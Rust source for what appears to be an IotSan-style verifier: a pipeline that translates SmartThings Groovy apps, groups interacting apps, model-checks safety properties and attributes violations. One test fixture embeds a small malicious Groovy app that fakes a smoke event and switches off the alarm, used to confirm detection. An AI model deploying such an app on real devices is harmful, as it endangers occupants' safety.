        let (apps, config) = bundle();
        let mut pipeline = Pipeline::with_events(2);
        pipeline.search.max_transitions = 1; // guarantees truncation
        let planner = VerificationPlanner::new(&pipeline);
        let plan = planner.plan(&apps, &config);
        let mut cache = VerificationCache::new();
        let report = planner.execute(&plan, &mut cache);
        assert!(report.groups.iter().any(|g| g.report.stats.truncated));
        let truncated_groups = report.groups.iter().filter(|g| g.report.stats.truncated).count();
        assert_eq!(cache.len(), plan.jobs.len() - truncated_groups);
    }

    #[test]
    fn attributions_rank_the_final_actor_first() {
        let (apps, config) = bundle();
        let pipeline = Pipeline::with_events(2);
        let mut cache = VerificationCache::new();
        let report = pipeline.verify_fleet(&apps, &config, &mut cache);
        let group = report
            .groups_containing("Unlock Door")
            .into_iter()
            .find(|g| g.report.has_violations())
            .expect("the mode/lock group violates");
        assert_eq!(group.attributions.len(), group.report.violations.len());
        let unlock = group
            .attributions
            .iter()
            .find(|a| a.description.contains("main door"))
            .expect("a main-door attribution");
        // Unlock Door's handler performs the final unlock: prime suspect.
        assert_eq!(unlock.prime_suspect().unwrap().app, "Unlock Door");
    }

    #[test]
    fn empty_bundle_yields_empty_plan_and_report() {
        let pipeline = Pipeline::with_events(1);
        let config = SystemConfig::new();
        let planner = VerificationPlanner::new(&pipeline);
        let plan = planner.plan(&[], &config);
        assert!(plan.jobs.is_empty());
        let mut cache = VerificationCache::new();
        let report = planner.execute(&plan, &mut cache);
        assert!(report.groups.is_empty());
        assert!(!report.has_violations());
        assert_eq!(report.cache_hit_rate(), 0.0);
        assert_eq!(report.scale_ratio(), 1.0);
    }

    #[test]
    fn fingerprint_displays_as_hex() {
        let fp = Fingerprint(0xdead_beef);
        assert_eq!(fp.to_string(), "00000000deadbeef");
    }
}
