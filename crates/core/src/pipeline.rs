//! The end-to-end IotSan pipeline (Figure 3).
//!
//! Apps' Groovy code → Translator → App Dependency Analyzer → Model Generator
//! → model checker → Output Analyzer.  The [`Pipeline`] ties the crates
//! together: it translates sources, computes related sets so only interacting
//! apps are verified jointly, verifies each group with the sequential model,
//! aggregates violations, and drives the attribution algorithm for newly
//! installed apps.

use crate::model::{ModelOptions, SequentialModel};
use crate::planner::{FleetReport, VerificationCache, VerificationPlanner};
use crate::system::InstalledSystem;
use iotsan_attribution::{attribute_app, AttributionReport, AttributionThresholds};
use iotsan_checker::{ParallelChecker, SearchConfig, SearchReport};
use iotsan_config::{
    enumerate_app_configs, expert_configure, AppConfig, DeviceConfig, SystemConfig,
};
use iotsan_depgraph::{analyze, DependencyGraph, RelatedSets};
use iotsan_groovy::SmartApp;
use iotsan_ir::{lower_app, IrApp};
use iotsan_properties::{PropertyId, PropertySet};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// An error produced while translating app source code.
#[derive(Debug, Clone, PartialEq)]
pub struct TranslateError {
    /// Which app failed (index or name when known).
    pub app: String,
    /// What went wrong.
    pub message: String,
}

impl fmt::Display for TranslateError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "failed to translate {}: {}", self.app, self.message)
    }
}

impl std::error::Error for TranslateError {}

/// Translates a batch of Groovy sources into IR apps.  Apps that use dynamic
/// device discovery are still translated but flagged; the paper excludes them
/// from verification (§10.1) and the pipeline reports them separately.
pub fn translate_sources(sources: &[&str]) -> Result<Vec<IrApp>, TranslateError> {
    let mut apps = Vec::new();
    for (index, source) in sources.iter().enumerate() {
        let parsed = SmartApp::parse(source)
            .map_err(|e| TranslateError { app: format!("app #{index}"), message: e.to_string() })?;
        let app = lower_app(&parsed).map_err(|e| TranslateError {
            app: parsed.name().to_string(),
            message: e.to_string(),
        })?;
        apps.push(app);
    }
    Ok(apps)
}

/// The verification result for one related group of apps.
#[derive(Debug, Clone, PartialEq)]
pub struct GroupResult {
    /// The apps verified together.
    pub apps: Vec<String>,
    /// The checker's report (violations + statistics).
    pub report: SearchReport,
}

impl GroupResult {
    /// The ids of properties violated in this group.
    pub fn violated_properties(&self) -> BTreeSet<u32> {
        self.report.violated_properties()
    }
}

/// The aggregated result of verifying a whole system.
#[derive(Debug, Clone, Default)]
pub struct VerificationResult {
    /// Per-group results.
    pub groups: Vec<GroupResult>,
    /// Total number of event handlers before dependency analysis.
    pub original_handlers: usize,
    /// Number of handlers in the largest related set.
    pub reduced_handlers: usize,
    /// Apps that were excluded because they discover devices dynamically.
    pub excluded_apps: Vec<String>,
}

impl VerificationResult {
    /// Every `(property, group apps)` violation pair found.
    pub fn violations(&self) -> Vec<(u32, Vec<String>)> {
        self.groups
            .iter()
            .flat_map(|g| g.violated_properties().into_iter().map(move |p| (p, g.apps.clone())))
            .collect()
    }

    /// Total number of `(property, group)` violations.
    pub fn violation_count(&self) -> usize {
        self.violations().len()
    }

    /// Number of distinct violated properties across all groups.
    pub fn violated_property_count(&self) -> usize {
        self.groups.iter().flat_map(|g| g.violated_properties()).collect::<BTreeSet<_>>().len()
    }

    /// True when any group violated any property.
    pub fn has_violations(&self) -> bool {
        self.groups.iter().any(|g| g.report.has_violations())
    }

    /// Violation counts per property class (the row structure of Tables
    /// 5/6).  Labels come from the property registry itself
    /// ([`iotsan_properties::PropertyClass::label`]), so user-defined classes
    /// render under their own names; violations whose id is not in the
    /// registry are reported under an explicit `unknown property PNN` bucket
    /// instead of being silently dropped.
    pub fn violations_by_class(&self, properties: &PropertySet) -> BTreeMap<String, usize> {
        let mut out: BTreeMap<String, usize> = BTreeMap::new();
        for (property, _) in self.violations() {
            let label = match properties.class_label(PropertyId(property)) {
                Some(label) => label.to_string(),
                None => format!("unknown property {}", PropertyId(property)),
            };
            *out.entry(label).or_insert(0) += 1;
        }
        out
    }

    /// The dependency-analysis scale ratio (Table 7a).
    pub fn scale_ratio(&self) -> f64 {
        if self.reduced_handlers == 0 {
            1.0
        } else {
            self.original_handlers as f64 / self.reduced_handlers as f64
        }
    }
}

/// The IotSan verification pipeline.
#[derive(Debug, Clone)]
pub struct Pipeline {
    /// The safety properties to verify.
    pub properties: PropertySet,
    /// Model-generation options (event bound, failure policy).
    pub model_options: ModelOptions,
    /// Checker search configuration.
    pub search: SearchConfig,
}

impl Default for Pipeline {
    fn default() -> Self {
        Pipeline {
            properties: PropertySet::all(),
            model_options: ModelOptions::default(),
            search: SearchConfig::with_depth(ModelOptions::default().max_events),
        }
    }
}

impl Pipeline {
    /// Creates a pipeline with the given number of external events.
    pub fn with_events(max_events: usize) -> Self {
        Pipeline {
            properties: PropertySet::all(),
            model_options: ModelOptions::with_events(max_events),
            search: SearchConfig::with_depth(max_events),
        }
    }

    /// Enables exhaustive device/communication failure injection.
    pub fn with_failures(mut self) -> Self {
        self.model_options = self.model_options.clone().with_failures();
        self
    }

    /// Replaces the property registry (e.g. a selection, or built-ins plus
    /// custom [`iotsan_properties::PropertySpec`]s).
    pub fn with_properties(mut self, properties: PropertySet) -> Self {
        self.properties = properties;
        self
    }

    /// Registers the configuration's user-defined properties
    /// ([`SystemConfig::custom_properties`]) on the pipeline's own registry,
    /// so they also show up in [`Pipeline::properties`]-driven displays
    /// (e.g. [`VerificationResult::violations_by_class`]).  The verification
    /// paths honor config-shipped specs automatically either way — see
    /// [`Pipeline::properties_for`].
    ///
    /// # Panics
    ///
    /// Panics when a custom property reuses an id already bound to a
    /// *different* spec (the built-ins occupy 1..=45).
    pub fn with_config_properties(mut self, config: &SystemConfig) -> Self {
        self.properties = self.properties_for(config);
        self
    }

    /// The effective property registry for a run over `config`: the
    /// pipeline's own registry plus any [`SystemConfig::custom_properties`]
    /// not already registered.  Every verification entry point
    /// ([`Pipeline::verify`], [`Pipeline::verify_fleet`],
    /// [`Pipeline::verify_group`], [`Pipeline::emit_promela`]) goes through
    /// this merge, so properties shipped inside a configuration are checked
    /// without any extra call.
    ///
    /// # Panics
    ///
    /// Panics when a config property reuses an id already bound to a
    /// *different* spec (an identical re-registration is fine).
    pub fn properties_for(&self, config: &SystemConfig) -> PropertySet {
        let mut properties = self.properties.clone();
        for spec in &config.custom_properties {
            match properties.get(spec.property_id()) {
                Some(existing) if existing == spec => {}
                Some(existing) => panic!(
                    "config custom property {} ({}) conflicts with registered spec {}",
                    spec.property_id(),
                    spec.name,
                    existing.name
                ),
                None => {
                    properties.register(spec.clone()).expect("absence just checked");
                }
            }
        }
        properties
    }

    /// Verifies every group with `workers` parallel search workers (over the
    /// sharded visited-state store).  `0` or `1` keeps the sequential engine;
    /// either way the set of violated properties is the same for a given
    /// bounded model — parallelism only changes wall-clock time.
    pub fn with_workers(mut self, workers: usize) -> Self {
        self.search.workers = workers.max(1);
        self
    }

    /// Runs dependency analysis over the apps (exposed for Table 7a and for
    /// inspection with [`iotsan_depgraph::render_summary`]).
    pub fn analyze_dependencies(&self, apps: &[IrApp]) -> (DependencyGraph, RelatedSets) {
        analyze(apps)
    }

    /// Restricts a configuration to the devices actually bound to the given
    /// apps' inputs.  The model checker then only enumerates physical events
    /// from sensors the verified apps can observe, mirroring how the paper
    /// verifies each related set against its own configuration rather than
    /// the entire household.
    pub fn restrict_config(&self, apps: &[IrApp], config: &SystemConfig) -> SystemConfig {
        let mut used_labels: BTreeSet<String> = BTreeSet::new();
        for app in apps {
            if let Some(app_cfg) = config.app(&app.name) {
                for input in &app.inputs {
                    for label in app_cfg.devices_for(&input.name) {
                        used_labels.insert(label);
                    }
                }
            }
        }
        let mut restricted = config.clone();
        restricted.devices.retain(|d| used_labels.contains(&d.label));
        restricted.apps.retain(|a| apps.iter().any(|app| app.name == a.app));
        restricted
    }

    /// Verifies one explicit group of apps (no dependency analysis).
    pub fn verify_group(&self, apps: &[IrApp], config: &SystemConfig) -> GroupResult {
        self.verify_group_restricted(apps, self.restrict_config(apps, config))
    }

    /// [`Pipeline::verify_group`] for a configuration that is already
    /// restricted to the group's devices — the planner restricts once at
    /// plan time, so execution must not pay (or depend on) a second pass.
    pub(crate) fn verify_group_restricted(
        &self,
        apps: &[IrApp],
        config: SystemConfig,
    ) -> GroupResult {
        let properties = self.properties_for(&config);
        // Property-directed slicing (opt-in): drop handlers the static
        // analysis proves unobservable by the registered properties.  Apps,
        // devices and bindings are untouched, so the state encoding and the
        // external-action alphabet are identical to the unsliced model.
        let group_apps = if self.search.slice {
            iotsan_analysis::slice_plan(apps, &properties).apply(apps)
        } else {
            apps.to_vec()
        };
        let system = InstalledSystem::new(group_apps, config);
        let model = SequentialModel::new(system, properties, self.model_options.clone());
        // ParallelChecker delegates to the sequential engine when the
        // configured worker count is 0 or 1, so it is the single entry point.
        let report = ParallelChecker::new(self.search.clone()).verify(&model);
        GroupResult { apps: apps.iter().map(|a| a.name.clone()).collect(), report }
    }

    /// A [`VerificationPlanner`] over this pipeline — the entry point for
    /// group-wise fleet checking with explicit plans and caches.
    pub fn planner(&self) -> VerificationPlanner<'_> {
        VerificationPlanner::new(self)
    }

    /// The full pipeline: dependency analysis, then per-related-group
    /// verification with the sequential model.
    ///
    /// The partitioning is shared with [`Pipeline::verify_fleet`] — both run
    /// the same [`VerificationPlanner::plan`]; this entry point verifies
    /// every group unconditionally (no cache) and keeps the lean
    /// [`VerificationResult`] shape.
    pub fn verify(&self, apps: &[IrApp], config: &SystemConfig) -> VerificationResult {
        let plan = self.planner().plan(apps, config);
        let mut result = VerificationResult {
            groups: Vec::new(),
            original_handlers: plan.original_handlers,
            reduced_handlers: plan.reduced_handlers,
            excluded_apps: plan.excluded_apps,
        };
        for job in &plan.jobs {
            result.groups.push(self.verify_group_restricted(&job.members, job.config.clone()));
        }
        result
    }

    /// Verifies a whole installed-app fleet group-wise with result caching:
    /// partitions `apps` into related groups, reuses every cached group whose
    /// [`crate::planner::Fingerprint`] matches, model-checks the rest, ranks
    /// suspect apps per violation from the counterexample traces, and merges
    /// everything into a deterministic [`FleetReport`].
    ///
    /// Re-verifying the same bundle with the same `cache` is pure cache
    /// replay; after changing one app, only the groups containing it are
    /// re-checked.
    ///
    /// ```
    /// use iotsan::{translate_sources, Pipeline, VerificationCache};
    /// use iotsan_config::{expert_configure, standard_household};
    ///
    /// let sources = [r#"
    /// definition(name: "Energy Saver", namespace: "st", author: "x", description: "d")
    /// preferences {
    ///     section("s") { input "motionSensor", "capability.motionSensor" }
    ///     section("s") { input "lights", "capability.switch", multiple: true }
    /// }
    /// def installed() { subscribe(motionSensor, "motion.inactive", onStill) }
    /// def onStill(evt) { lights.off() }
    /// "#];
    /// let apps = translate_sources(&sources).unwrap();
    /// let config = expert_configure(&apps, &standard_household());
    /// let mut cache = VerificationCache::new();
    /// let pipeline = Pipeline::with_events(1);
    ///
    /// let cold = pipeline.verify_fleet(&apps, &config, &mut cache);
    /// let warm = pipeline.verify_fleet(&apps, &config, &mut cache);
    /// assert!(warm.groups.iter().all(|g| g.from_cache));
    /// assert_eq!(warm.outcome(), cold.outcome());
    /// ```
    pub fn verify_fleet(
        &self,
        apps: &[IrApp],
        config: &SystemConfig,
        cache: &mut VerificationCache,
    ) -> FleetReport {
        let planner = self.planner();
        let plan = planner.plan(apps, config);
        planner.execute(&plan, cache)
    }

    /// Emits the Promela model for a group of apps (for inspection / external
    /// Spin runs).
    pub fn emit_promela(&self, apps: &[IrApp], config: &SystemConfig) -> String {
        iotsan_promela::emit_sequential(apps, config, &self.properties_for(config))
    }

    /// Returns `true` when verifying `apps` under `config` violates at least
    /// one property — the oracle used by the attribution phases.
    pub fn violates(&self, apps: &[IrApp], config: &SystemConfig) -> bool {
        self.verify_group(apps, config).report.has_violations()
    }

    /// Runs the two-phase attribution of §9 for a newly installed app.
    ///
    /// Phase 1 verifies `new_app` alone under every enumerated configuration
    /// over `devices`; phase 2 verifies it together with `installed` apps
    /// (which keep their expert configuration).
    pub fn attribute_new_app(
        &self,
        new_app: &IrApp,
        installed: &[IrApp],
        devices: &[DeviceConfig],
        thresholds: &AttributionThresholds,
    ) -> AttributionReport {
        let config_limit = 24;
        let standalone_configs: Vec<AppConfig> =
            enumerate_app_configs(new_app, devices, config_limit);
        let joint_configs = standalone_configs.clone();

        let base_standalone = {
            let mut cfg = expert_configure(std::slice::from_ref(new_app), devices);
            cfg.apps.clear();
            cfg
        };
        let mut base_joint = expert_configure(installed, devices);

        let verify_standalone = |app_cfg: &AppConfig| {
            let mut config = base_standalone.clone();
            config.apps.push(app_cfg.clone());
            self.violates(std::slice::from_ref(new_app), &config)
        };
        let installed_and_new: Vec<IrApp> =
            installed.iter().cloned().chain(std::iter::once(new_app.clone())).collect();
        let verify_joint = |app_cfg: &AppConfig| {
            let mut config = base_joint.clone();
            config.apps.retain(|a| a.app != app_cfg.app);
            config.apps.push(app_cfg.clone());
            self.violates(&installed_and_new, &config)
        };
        let report = attribute_app(
            &new_app.name,
            &standalone_configs,
            verify_standalone,
            &joint_configs,
            verify_joint,
            thresholds,
        );
        // Keep the joint base config borrow-checker friendly (it is only read).
        base_joint.apps.truncate(base_joint.apps.len());
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_config::{standard_household, Binding};

    const AUTO_MODE: &str = r#"
definition(name: "Auto Mode Change", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "people", "capability.presenceSensor", multiple: true } }
def installed() { subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.value == "not present") { setLocationMode("Away") } else { setLocationMode("Home") }
}
"#;

    const UNLOCK_DOOR: &str = r#"
definition(name: "Unlock Door", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "lock1", "capability.lock" } }
def installed() {
    subscribe(app, "touch", appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def appTouch(evt) { lock1.unlock() }
def changedLocationMode(evt) { lock1.unlock() }
"#;

    const GOOD_NIGHT_LIGHT: &str = r#"
definition(name: "Brighten My Path", namespace: "st", author: "a", description: "d")
preferences {
    section("s") { input "motionSensor", "capability.motionSensor" }
    section("s") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(motionSensor, "motion.active", motionActiveHandler) }
def motionActiveHandler(evt) { lights.on() }
"#;

    fn household_config(apps: &[IrApp]) -> SystemConfig {
        expert_configure(apps, &standard_household())
    }

    #[test]
    fn translate_sources_reports_names() {
        let apps = translate_sources(&[AUTO_MODE, UNLOCK_DOOR]).unwrap();
        assert_eq!(apps.len(), 2);
        assert_eq!(apps[0].name, "Auto Mode Change");
        let err = translate_sources(&["def broken( {"]).unwrap_err();
        assert!(err.to_string().contains("app #0"));
    }

    #[test]
    fn pipeline_finds_interaction_violation() {
        let apps = translate_sources(&[AUTO_MODE, UNLOCK_DOOR]).unwrap();
        let config = household_config(&apps);
        let pipeline = Pipeline::with_events(2);
        let result = pipeline.verify(&apps, &config);
        assert!(result.has_violations());
        // The lock-related physical-state property must be among the violations.
        let by_class = result.violations_by_class(&pipeline.properties);
        assert!(by_class.get("Unsafe physical states").copied().unwrap_or(0) >= 1);
        // Both apps are needed, so they end up in the same group.
        let violating_group =
            result.groups.iter().find(|g| g.report.has_violations()).expect("a violating group");
        assert!(violating_group.apps.contains(&"Auto Mode Change".to_string()));
        assert!(violating_group.apps.contains(&"Unlock Door".to_string()));
    }

    #[test]
    fn parallel_pipeline_matches_sequential_violations() {
        let apps = translate_sources(&[AUTO_MODE, UNLOCK_DOOR, GOOD_NIGHT_LIGHT]).unwrap();
        let config = household_config(&apps);
        let sequential = Pipeline::with_events(2).verify(&apps, &config);
        let parallel = Pipeline::with_events(2).with_workers(4).verify(&apps, &config);
        let props = |r: &VerificationResult| {
            r.groups.iter().flat_map(|g| g.violated_properties()).collect::<BTreeSet<_>>()
        };
        assert_eq!(props(&sequential), props(&parallel));
        assert!(parallel.has_violations());
        // The parallel engine actually ran (workers recorded in the stats).
        assert!(parallel.groups.iter().any(|g| g.report.stats.workers == 4));
    }

    #[test]
    fn dependency_analysis_reduces_problem_size() {
        let apps = translate_sources(&[AUTO_MODE, UNLOCK_DOOR, GOOD_NIGHT_LIGHT]).unwrap();
        let config = household_config(&apps);
        let pipeline = Pipeline::with_events(1);
        let result = pipeline.verify(&apps, &config);
        assert!(result.original_handlers >= result.reduced_handlers);
        assert!(result.scale_ratio() >= 1.0);
        // Brighten My Path does not interact with the mode/lock chain, so at
        // least two groups exist.
        assert!(result.groups.len() >= 2);
    }

    #[test]
    fn safe_group_has_no_violations() {
        let apps = translate_sources(&[GOOD_NIGHT_LIGHT]).unwrap();
        // Bind the lights to a light outlet (no lock, no mode involvement).
        let config = household_config(&apps);
        let pipeline = Pipeline::with_events(2);
        let result = pipeline.verify(&apps, &config);
        assert!(!result.has_violations(), "violations: {:?}", result.violations());
    }

    #[test]
    fn excluded_dynamic_apps_are_reported() {
        let spy = r#"
definition(name: "Spy", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "trigger", "capability.motionSensor" } }
def installed() { subscribe(trigger, "motion.active", handler) }
def handler(evt) { getChildDevices() }
"#;
        let apps = translate_sources(&[spy, GOOD_NIGHT_LIGHT]).unwrap();
        let config = household_config(&apps);
        let result = Pipeline::with_events(1).verify(&apps, &config);
        assert_eq!(result.excluded_apps, vec!["Spy".to_string()]);
    }

    #[test]
    fn attribution_flags_malicious_fake_event_app() {
        // A ContexIoT-style malicious app: whenever motion is detected it
        // fakes a smoke event and silences the alarm — every configuration
        // violates a property, so phase 1 flags it.
        let malicious = r#"
definition(name: "Fake Smoke", namespace: "st", author: "evil", description: "d")
preferences {
    section("s") { input "motion1", "capability.motionSensor" }
    section("s") { input "alarm1", "capability.alarm" }
}
def installed() { subscribe(motion1, "motion.active", handler) }
def handler(evt) {
    sendEvent(name: "smoke", value: "detected")
    alarm1.off()
}
"#;
        let apps = translate_sources(&[malicious]).unwrap();
        let devices = standard_household();
        let pipeline = Pipeline::with_events(2);
        let report =
            pipeline.attribute_new_app(&apps[0], &[], &devices, &AttributionThresholds::default());
        assert!(report.verdict.flags_app(), "verdict was {:?}", report.verdict);
    }

    #[test]
    fn attribution_reports_clean_for_benign_app() {
        let apps = translate_sources(&[GOOD_NIGHT_LIGHT]).unwrap();
        let devices = standard_household();
        let pipeline = Pipeline::with_events(1);
        let report =
            pipeline.attribute_new_app(&apps[0], &[], &devices, &AttributionThresholds::default());
        assert!(!report.verdict.flags_app(), "verdict was {:?}", report.verdict);
    }

    #[test]
    fn promela_emission_via_pipeline() {
        let apps = translate_sources(&[UNLOCK_DOOR]).unwrap();
        let config = household_config(&apps);
        let text = Pipeline::default().emit_promela(&apps, &config);
        assert!(text.contains("inline Unlock_Door_changedLocationMode"));
    }

    #[test]
    fn verify_group_respects_explicit_binding() {
        let apps = translate_sources(&[UNLOCK_DOOR]).unwrap();
        let mut config = household_config(&apps);
        // Rebind the lock input to the back door (not the main door): the
        // main-door property can then no longer be violated by this app alone.
        if let Some(app_cfg) = config.apps.iter_mut().find(|a| a.app == "Unlock Door") {
            app_cfg.bindings.insert("lock1".into(), Binding::Devices(vec!["backDoorLock".into()]));
        }
        let pipeline = Pipeline::with_events(1);
        let result = pipeline.verify_group(&apps, &config);
        let violated = result.violated_properties();
        let main_door_violations: Vec<_> = violated
            .iter()
            .filter(|p| {
                pipeline
                    .properties
                    .get(PropertyId(**p))
                    .map(|prop| prop.name.contains("main door"))
                    .unwrap_or(false)
            })
            .collect();
        assert!(main_door_violations.is_empty());
    }
}
